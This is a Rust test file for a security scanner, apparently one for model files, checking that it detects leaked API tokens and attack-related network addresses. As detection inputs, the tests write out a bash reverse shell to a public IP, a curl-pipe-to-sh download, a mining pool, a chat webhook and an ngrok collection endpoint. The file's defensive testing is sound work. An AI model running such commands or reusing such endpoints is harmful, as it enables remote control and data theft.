use serde_json::json;
use weighbridge_types::Verdict;

use super::{network, secrets};
use crate::core::testing::{inspect_bytes, rules, verdict};

fn kinds(text: &str) -> Vec<&'static str> {
    secrets::find(text, 16).iter().map(|s| s.kind).collect()
}

fn addresses(text: &str) -> Vec<&'static str> {
    network::find(text, 16).iter().map(|h| h.why).collect()
}

/// Random-looking body of `n` letters and digits, so that no real secret
/// stands in this file.
fn body(n: usize) -> String {
    let alphabet = b"aZ3kQ9xWm2Rt7LpV5nYc8HdF4jSg6BvT1uEoKi";
    (0..n).map(|i| char::from(alphabet[(i * 17 + i / 38 * 5) % alphabet.len()])).collect()
}

#[test]
fn tokens_are_found_by_their_issuers_formats() {
    for (text, kind) in [
        (format!("token: ghp_{}", body(36)), "GitHub token"),
        (format!("HF_TOKEN=hf_{}\n", body(34)), "Hugging Face token"),
        (format!("sk-{}", body(48)), "OpenAI key"),
        (format!("(AIza{})", body(35)), "Google API key"),
        ("aws AKIAQ3EGZ7PLVX5WTN2K".to_owned(), "AWS access key"),
        (format!("-----BEGIN RSA PRIVATE KEY-----\n{}\n{}\n", body(64), body(64)), "private key"),
    ] {
        assert_eq!(kinds(&text), [kind], "{text}");
    }
}

#[test]
fn placeholders_and_near_misses_are_not_secrets() {
    for text in [
        "AKIAIOSFODNN7EXAMPLE",
        "AKIAAAAAAAAAAAAAAAAA",
        "hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
        "ghp_<your token here, thirty-six characters>",
        "sk-proj-your-key-goes-here-your-key-goes-here-your-key",
        "task-specific-layer-with-a-very-long-descriptive-name-of-a-thing",
        "-----BEGIN PRIVATE KEY-----",
        "-----BEGIN PRIVATE KEY-----\n...\n-----END PRIVATE KEY-----",
        "-----BEGIN PUBLIC KEY-----\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu1SU1LfVLPHCozMxH2Mo\n",
        "hf_model_name_that_is_rather_long_indeed_and_more",
        "hf_internal_testing/tiny-random-gpt2",
    ] {
        assert!(kinds(text).is_empty(), "{text}");
    }
}

#[test]
fn a_web_token_needs_a_header_that_decodes() {
    let header = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9";
    assert_eq!(kinds(&format!("{header}.eyJzdWIiOiIxIn0.{}", body(43))), ["JSON web token"]);
    assert!(kinds(&format!("eyJxxxxxxxxx.eyJzdWIiOiIxIn0.{}", body(43))).is_empty());
}

#[test]
fn evidence_never_repeats_the_secret() {
    let secret = format!("hf_{}", body(34));
    let doc = json!({"architectures": ["A"], "model_type": "a", "hub_token": secret});
    let outcome = inspect_bytes("config.json", doc.to_string().as_bytes());
    assert_eq!(rules(&outcome), ["secret-in-text"]);
    assert!(outcome.findings.iter().all(|f| !f.detail.contains(&secret[5..])));
}

#[test]
fn addresses_of_attacks_and_of_their_tools_are_found() {
    assert_eq!(addresses("bash -i >& /dev/tcp/210.117.212.93/4242"), ["reverse shell of baller423/goober2, 2024"]);
    assert_eq!(addresses("stratum+tcp://pool.example.org:3333"), ["mining pool"]);
    assert_eq!(addresses("curl http://45.137.21.9:8080/x.sh | sh"), ["bare public address"]);
    assert_eq!(addresses("https://discord.com/api/webhooks/1/abc"), ["chat webhook"]);
    assert_eq!(addresses("https://a1b2.ngrok-free.app/collect"), ["tunnel to a private machine"]);
    let outcome = inspect_bytes(
        "config.json",
        br#"{"architectures": ["A"], "model_type": "a", "callback": "https://models.litellm.cloud/x"}"#,
    );
    assert_eq!(verdict(&outcome), Verdict::Malicious);
}

#[test]
fn ordinary_links_are_no_indicator() {
    for text in [
        "https://huggingface.co/meta-llama/Llama-3.1-8B",
        "see https://arxiv.org/abs/1706.03762 and http://www.w3.org/2000/svg",
        "http://localhost:8000 http://127.0.0.1:11434 http://0.0.0.0:80 http://192.168.1.5/x http://10.0.0.1",
        "https://ngrok.com https://pastebin.com https://discord.com/invite/abc",
        "1210.117.212.93 and 210.117.212.933",
        "version 3.10.0.1://",
        "http://203.0.113.7/example",
    ] {
        assert!(addresses(text).is_empty(), "{text}: {:?}", addresses(text));
    }
}
